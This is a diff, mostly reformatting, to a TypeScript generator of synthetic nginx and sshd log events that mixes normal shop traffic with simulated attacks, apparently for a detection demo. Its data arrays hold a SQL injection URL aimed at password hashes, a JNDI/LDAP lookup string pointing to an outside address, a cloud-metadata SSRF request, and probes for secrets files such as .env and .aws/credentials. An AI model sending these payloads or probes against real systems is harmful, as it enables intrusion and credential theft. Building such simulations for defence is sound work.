@@ -21,7 +21,22 @@ const BROWSERS = [
   "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
   "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
 ];
-const PAGES = ["/", "/products", "/products/42", "/cart", "/checkout", "/blog/2026/11/what-we-learned", "/search?q=winter+boots", "/search?q=o%27neil+jacket", "/api/v1/orders?page=2", "/static/app.js", "/static/logo.svg", "/account/settings", "/help/returns", "/search?q=select+the+best+union+suit"];
+const PAGES = [
+  "/",
+  "/products",
+  "/products/42",
+  "/cart",
+  "/checkout",
+  "/blog/2026/11/what-we-learned",
+  "/search?q=winter+boots",
+  "/search?q=o%27neil+jacket",
+  "/api/v1/orders?page=2",
+  "/static/app.js",
+  "/static/logo.svg",
+  "/account/settings",
+  "/help/returns",
+  "/search?q=select+the+best+union+suit",
+];
 const COMMENTS = [
   "Great product, my daughter's favourite - she says it's \"the best\"!",
   "Does this ship to Zürich? Merci beaucoup",
@@ -32,7 +47,30 @@ const COMMENTS = [
 ];
 const USERS = ["alice", "bob", "carol", "deploy", "backup", "jenkins", "maria", "omar"];
 const HOSTS = ["web-01", "web-02", "bastion", "db-01"];
-const SCANNER_PATHS = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/admin/", "/backup.zip", "/server-status", "/config.php.bak", "/.aws/credentials", "/actuator/env", "/debug/pprof", "/vendor/phpunit/", "/cgi-bin/test.cgi", "/.DS_Store", "/db.sql", "/old/", "/test.php", "/shell.php", "/xmlrpc.php", "/login.action", "/console/", "/.svn/entries"];
+const SCANNER_PATHS = [
+  "/.env",
+  "/.git/config",
+  "/wp-login.php",
+  "/phpmyadmin/",
+  "/admin/",
+  "/backup.zip",
+  "/server-status",
+  "/config.php.bak",
+  "/.aws/credentials",
+  "/actuator/env",
+  "/debug/pprof",
+  "/vendor/phpunit/",
+  "/cgi-bin/test.cgi",
+  "/.DS_Store",
+  "/db.sql",
+  "/old/",
+  "/test.php",
+  "/shell.php",
+  "/xmlrpc.php",
+  "/login.action",
+  "/console/",
+  "/.svn/entries",
+];
 // Our own attack samples, one per technique, for the demo (not taken from any test suite).
 const WEB_ATTACKS: { url?: string; body?: string; method?: string }[] = [
   { url: "/products?id=42%27%20UNION%20SELECT%20username,password_hash%20FROM%20customers--" },
@@ -45,7 +83,12 @@ const WEB_ATTACKS: { url?: string; body?: string; method?: string }[] = [
   { url: "/render?tpl=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fx%7D" },
   { url: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F" },
 ];
-const ATTACK_TOOLS = ["sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6"];
+const ATTACK_TOOLS = [
+  "sqlmap/1.8.11#stable (https://sqlmap.org)",
+  "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
+  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+  "gobuster/3.6",
+];
 
 interface Campaign {
   kind: "web" | "scan" | "brute" | "spray";
@@ -59,9 +102,7 @@ export class TrafficGenerator {
   private readonly campaigns: Campaign[] = [];
   private counter = 0;
 
-  constructor(
-    private readonly options: { seed?: number; attackShare?: number; idPrefix?: string } = {},
-  ) {
+  constructor(private readonly options: { seed?: number; attackShare?: number; idPrefix?: string } = {}) {
     this.random = mulberry32(options.seed ?? Date.now());
   }
 
@@ -77,14 +118,26 @@ export class TrafficGenerator {
 
   private base(at: Date): Ecs {
     this.counter += 1;
-    return { "@timestamp": at.toISOString(), event: { id: `${this.options.idPrefix ?? "sim"}-${at.getTime().toString(36)}-${this.counter.toString(36)}-${Math.floor(this.random() * 1e9).toString(36)}` } };
+    return {
+      "@timestamp": at.toISOString(),
+      event: {
+        id: `${this.options.idPrefix ?? "sim"}-${at.getTime().toString(36)}-${this.counter.toString(36)}-${Math.floor(this.random() * 1e9).toString(36)}`,
+      },
+    };
   }
 
   private web(at: Date, ip: string, path: string, ua: string, status: number, method = "GET", body?: string): Ecs {
     const e = this.base(at);
     return {
       ...e,
-      event: { ...(e.event as object), kind: "event", category: ["web"], module: "nginx", dataset: "nginx.access", outcome: status < 400 ? "success" : "failure" },
+      event: {
+        ...(e.event as object),
+        kind: "event",
+        category: ["web"],
+        module: "nginx",
+        dataset: "nginx.access",
+        outcome: status < 400 ? "success" : "failure",
+      },
       source: { ip, port: 30_000 + Math.floor(this.random() * 30_000) },
       host: { name: this.pick(HOSTS.slice(0, 2)) },
       url: { original: path },
@@ -95,7 +148,11 @@ export class TrafficGenerator {
 
   private sshd(at: Date, line: string): Ecs {
     const e = this.base(at);
-    return { ...e, event: { ...(e.event as object), module: "sshd" }, message: `sshd[${1000 + Math.floor(this.random() * 9000)}]: ${line}` };
+    return {
+      ...e,
+      event: { ...(e.event as object), module: "sshd" },
+      message: `sshd[${1000 + Math.floor(this.random() * 9000)}]: ${line}`,
+    };
   }
 
   private benign(at: Date): Ecs {
@@ -105,10 +162,25 @@ export class TrafficGenerator {
       const ip = this.ip("benign");
       // A mistyped password now and then, then the right one.
       return this.random() < 0.3
-        ? this.sshd(at, `Failed password for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2`)
-        : this.sshd(at, `Accepted publickey for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2: ED25519 SHA256:${Math.floor(this.random() * 1e12).toString(36)}`);
+        ? this.sshd(
+            at,
+            `Failed password for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2`,
+          )
+        : this.sshd(
+            at,
+            `Accepted publickey for ${user} from ${ip} port ${40_000 + Math.floor(this.random() * 20_000)} ssh2: ED25519 SHA256:${Math.floor(this.random() * 1e12).toString(36)}`,
+          );
     }
-    if (roll < 0.1) return this.web(at, this.ip("benign"), "/api/v1/reviews", this.pick(BROWSERS), 201, "POST", JSON.stringify({ rating: 5, comment: this.pick(COMMENTS) }));
+    if (roll < 0.1)
+      return this.web(
+        at,
+        this.ip("benign"),
+        "/api/v1/reviews",
+        this.pick(BROWSERS),
+        201,
+        "POST",
+        JSON.stringify({ rating: 5, comment: this.pick(COMMENTS) }),
+      );
     const status = this.random() < 0.03 ? 404 : 200;
     return this.web(at, this.ip("benign"), this.pick(PAGES), this.pick(BROWSERS), status);
   }
@@ -129,14 +201,36 @@ export class TrafficGenerator {
     switch (campaign.kind) {
       case "web": {
         const attack = this.pick(WEB_ATTACKS);
-        return this.web(at, campaign.ip, attack.url ?? "/", this.random() < 0.5 ? this.pick(ATTACK_TOOLS) : this.pick(BROWSERS), this.random() < 0.7 ? 403 : 500, attack.method ?? "GET", attack.body);
+        return this.web(
+          at,
+          campaign.ip,
+          attack.url ?? "/",
+          this.random() < 0.5 ? this.pick(ATTACK_TOOLS) : this.pick(BROWSERS),
+          this.random() < 0.7 ? 403 : 500,
+          attack.method ?? "GET",
+          attack.body,
+        );
       }
       case "scan":
-        return this.web(at, campaign.ip, SCANNER_PATHS[campaign.step % SCANNER_PATHS.length]!, this.pick(ATTACK_TOOLS), 404);
+        return this.web(
+          at,
+          campaign.ip,
+          SCANNER_PATHS[campaign.step % SCANNER_PATHS.length]!,
+          this.pick(ATTACK_TOOLS),
+          404,
+        );
       case "brute":
-        return this.sshd(at, campaign.step % 3 === 0 ? `Invalid user ${this.pick(["admin", "oracle", "test", "ubuntu"])} from ${campaign.ip} port ${port}` : `Failed password for root from ${campaign.ip} port ${port} ssh2`);
+        return this.sshd(
+          at,
+          campaign.step % 3 === 0
+            ? `Invalid user ${this.pick(["admin", "oracle", "test", "ubuntu"])} from ${campaign.ip} port ${port}`
+            : `Failed password for root from ${campaign.ip} port ${port} ssh2`,
+        );
       case "spray":
-        return this.sshd(at, `Failed password for ${USERS[campaign.step % USERS.length]} from ${campaign.ip} port ${port} ssh2`);
+        return this.sshd(
+          at,
+          `Failed password for ${USERS[campaign.step % USERS.length]} from ${campaign.ip} port ${port} ssh2`,
+        );
     }
   }
 
